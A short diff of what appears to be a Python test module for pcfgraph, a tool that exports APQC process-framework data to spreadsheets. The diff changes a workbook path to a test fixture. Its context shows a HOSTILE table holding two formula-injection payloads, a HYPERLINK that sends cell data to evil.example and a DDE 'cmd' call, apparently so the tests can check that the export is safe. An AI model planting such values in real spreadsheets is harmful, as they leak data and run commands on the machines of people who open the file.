@@ -28,7 +28,7 @@ from pcfgraph.resources import resource_dir
 from pcfgraph.spreadsheet import export_subtree
 from pcfgraph.store import EmbeddedStore, SelectResult
 
-SHIPPED = resource_dir("data") / "apqc" / "pcf-cross-industry-7.4-group-8.1.xlsx"
+SHIPPED = Path(__file__).parents[1] / "fixtures" / "pcf-cross-industry-7.4-group-8.1.xlsx"
 APQC_ID = "apqc-pcf-cross-industry-7.4"
 HOSTILE = {
     20635: ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"),
